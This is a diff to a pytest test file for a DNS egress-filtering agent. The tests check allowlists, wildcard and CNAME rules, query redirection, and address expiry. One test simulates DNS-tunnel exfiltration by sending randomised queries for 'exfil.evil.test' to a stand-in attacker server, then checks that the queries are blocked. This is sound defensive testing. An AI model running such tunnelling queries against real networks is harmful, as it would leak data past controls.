@@ -2,6 +2,7 @@
 namespace, and real dnsmasq servers in NET serving the test's zones (tests/dnsserver.py)."""
 import json
 import subprocess
+import time
 
 import pytest
 
@@ -18,23 +19,25 @@ EPERM = 1
 REFUSED = 5
 
 
-def dns_policy(name: str, *, grace: int = 30, mode: str = "enforce", on_violation: str = "deny") -> str:
-    return f"""
-    version: 1
-    workloads:
-      - name: {name}
-        mode: {mode}
-        on_violation: {on_violation}
-        allow:
+ALL_RULES = """
           - fqdn: api.provider.test
             ports: [443]
             protocol: tcp
           - fqdn: "*.azure.test"
             ports: [443]
           - fqdn: alias.provider.test
-            ports: [443]
-          - fqdn: moving.provider.test
-            ports: [443]
+            ports: [443]"""
+
+
+def dns_policy(name: str, *, grace: int = 30, mode: str = "enforce", on_violation: str = "deny",
+               rules: str = ALL_RULES) -> str:
+    return f"""
+    version: 1
+    workloads:
+      - name: {name}
+        mode: {mode}
+        on_violation: {on_violation}
+        allow:{rules}
         dns:
           upstream: [{RESOLVER}]
           grace_seconds: {grace}
@@ -43,7 +46,7 @@ def dns_policy(name: str, *, grace: int = 30, mode: str = "enforce", on_violatio
 
 ZONE = {"api.provider.test": Lab.PROVIDER4, "eastus.azure.test": Lab.PROVIDER4,
         "deep.eastus.azure.test": Lab.OTHER4, "cdn.elsewhere.test": Lab.OTHER4,
-        "moving.provider.test": Lab.PROVIDER4, "unlisted.provider.test": Lab.OTHER4}
+        "moving.provider.test": Lab.ATTACKER4, "unlisted.provider.test": Lab.ATTACKER4}
 
 
 @pytest.fixture
@@ -52,7 +55,16 @@ def dns_server(lab, tmp_path):
 
 
 def run(lab, agent, wl, *args):
-    return outcome(lab.run_in_router(agent.router_cmd(wl, *args), stdout=-1, stderr=-1, text=True), timeout=60)
+    return outcome(lab.run_in_router(with_resolv_conf(agent.router_cmd(wl, *args)), stdout=-1, stderr=-1, text=True),
+                   timeout=60)
+
+
+def with_resolv_conf(argv, nameserver=RESOLVER):
+    """argv in its own mount namespace whose /etc/resolv.conf names the test's resolver: the
+    host's names an outside resolver that no test may ever ask."""
+    script = (f"f=$(mktemp) && echo 'nameserver {nameserver}' > $f && mount --bind $f /etc/resolv.conf "
+              '&& exec "$@"')
+    return ["unshare", "-m", "sh", "-c", script, "sh", *argv]
 
 
 def query(lab, agent, wl, name, *extra, server=RESOLVER):
@@ -66,3 +78,112 @@ def test_allowed_name_resolves_and_its_address_is_reachable(lab, start_agent, dn
     result = run(lab, agent, wl, "resolve-connect", "api.provider.test", "443", "--count", "3")
     assert result["ok"], result
     assert provider.connections() == 3
+
+
+def test_glibc_resolver_unmodified_gets_the_answer(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    agent = start_agent(dns_policy(wl), [wl])
+    assert run(lab, agent, wl, "resolve", "api.provider.test") == {
+        "ok": True, "addresses": [Lab.PROVIDER4], "pid": pytest.approx(0, abs=1 << 30)}
+    assert "api.provider.test" in dns_server.queried_names()
+
+
+def test_wildcard_matches_exactly_one_label(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    agent = start_agent(dns_policy(wl), [wl])
+    allowed = query(lab, agent, wl, "eastus.azure.test")
+    assert allowed["rcodes"] == {"0": 1} and allowed["addresses"] == [Lab.PROVIDER4]
+    assert query(lab, agent, wl, "deep.eastus.azure.test")["rcodes"] == {str(REFUSED): 1}
+    assert query(lab, agent, wl, "azure.test")["rcodes"] == {str(REFUSED): 1}
+    assert "deep.eastus.azure.test" not in dns_server.queried_names()
+
+
+def test_cname_to_a_name_outside_the_allowlist_is_judged_by_the_asked_name(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    target = lab.serve(Lab.OTHER4, 443)
+    agent = start_agent(dns_policy(wl), [wl])
+    result = query(lab, agent, wl, "alias.provider.test")
+    assert result["rcodes"] == {"0": 1} and result["addresses"] == [Lab.OTHER4]
+    assert run(lab, agent, wl, "tcp", Lab.OTHER4, "443")["ok"]
+    assert target.connections() == 1
+    # The target's own name is not allowed when asked directly.
+    assert query(lab, agent, wl, "cdn.elsewhere.test")["rcodes"] == {str(REFUSED): 1}
+
+
+def test_denied_name_is_refused_reported_and_never_forwarded(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    agent = start_agent(dns_policy(wl), [wl])
+    assert query(lab, agent, wl, "unlisted.provider.test")["rcodes"] == {str(REFUSED): 1}
+    event = agent.wait_for(lambda e: e["kind"] == "dns_denied")
+    assert event["destination"]["fqdn"] == "unlisted.provider.test" and event["verdict"] == "deny"
+    assert event["process"]["comm"].startswith("python")
+    assert "unlisted.provider.test" not in dns_server.queried_names()
+    # Its address was never allowed.
+    assert run(lab, agent, wl, "tcp", Lab.ATTACKER4, "443")["errno"] == EPERM
+
+
+def test_dns_tunnel_is_refused_and_the_attackers_server_hears_nothing(lab, start_agent, dns_server, tmp_path):
+    wl = unique_name("dns")
+    attacker = DnsServer(lab, ATTACKER_DNS, tmp_path, hosts={"ns.evil.test": Lab.ATTACKER4})
+    agent = start_agent(dns_policy(wl), [wl])
+    for server in (RESOLVER, ATTACKER_DNS):
+        result = query(lab, agent, wl, "{rand}.exfil.evil.test", "--count", "200", server=server)
+        assert result["rcodes"] == {str(REFUSED): 200}, result
+    assert attacker.queried_names() == []
+    assert not [n for n in dns_server.queried_names() if n.endswith("evil.test")]
+    denied = agent.wait_for(lambda e: e["kind"] == "dns_denied" and e["destination"]["fqdn"].endswith("evil.test"))
+    assert denied["workload"] == wl
+
+
+def test_query_over_tcp_and_to_any_resolver_is_redirected(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    agent = start_agent(dns_policy(wl), [wl])
+    over_tcp = query(lab, agent, wl, "api.provider.test", "--tcp")
+    assert over_tcp["rcodes"] == {"0": 1} and over_tcp["addresses"] == [Lab.PROVIDER4]
+    # OTHER_RESOLVER does not exist: only the redirect can answer, and the answer seems to come from it.
+    other = query(lab, agent, wl, "api.provider.test", server=OTHER_RESOLVER)
+    assert other["rcodes"] == {"0": 1} and other["addresses"] == [Lab.PROVIDER4]
+    assert query(lab, agent, wl, "unlisted.provider.test", "--tcp")["rcodes"] == {str(REFUSED): 1}
+
+
+def test_ipv6_resolver_is_redirected(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    agent = start_agent(dns_policy(wl), [wl])
+    result = query(lab, agent, wl, "api.provider.test", server="fd00:e9:5::53")
+    assert result["rcodes"] == {"0": 1} and result["addresses"] == [Lab.PROVIDER4]
+
+
+def test_connections_right_after_each_answer_are_never_refused(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    provider = lab.serve(Lab.PROVIDER4, 443)
+    agent = start_agent(dns_policy(wl), [wl])
+    result = run(lab, agent, wl, "resolve-connect", "api.provider.test", "443", "--count", "200")
+    assert result == {"ok": True, "refused": {}, "pid": result["pid"]}
+    assert provider.connections() == 200
+    allowed = agent.wait_for(lambda e: e["kind"] == "dns_allowed" and e["destination"]["fqdn"] == "api.provider.test")
+    assert allowed["detail"]["count"] > 1  # aggregated, not one event per query
+
+
+def test_a_changed_address_works_and_the_old_one_expires_without_cutting_connections(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    old = lab.serve(Lab.ATTACKER4, 443)
+    new = lab.serve(Lab.OTHER4, 443)
+    agent = start_agent(dns_policy(wl, grace=1, rules="\n          - {fqdn: moving.provider.test, ports: [443]}"), [wl])
+    first = query(lab, agent, wl, "moving.provider.test")
+    assert first["addresses"] == [Lab.ATTACKER4] and first["ttls"] == [2]
+    held = lab.run_in_router(agent.router_cmd(wl, "hold", Lab.ATTACKER4, "443"), stdin=subprocess.PIPE,
+                             stdout=subprocess.PIPE, text=True, bufsize=1)
+    assert json.loads(held.stdout.readline())["connected"]
+
+    dns_server.change_hosts({**ZONE, "moving.provider.test": Lab.OTHER4})
+    second = query(lab, agent, wl, "moving.provider.test")
+    assert second["addresses"] == [Lab.OTHER4]
+    assert run(lab, agent, wl, "tcp", Lab.OTHER4, "443")["ok"]
+    assert new.connections() == 1
+
+    time.sleep(2 + 1 + 1.5)  # TTL + grace, and a sweep
+    assert run(lab, agent, wl, "tcp", Lab.ATTACKER4, "443")["errno"] == EPERM  # expired: new ones refused
+    held.stdin.write("100\n")
+    held.stdin.flush()
+    assert json.loads(held.stdout.readline())["ok"]
+    assert old.wait_for_bytes(100)  # the established connection goes on
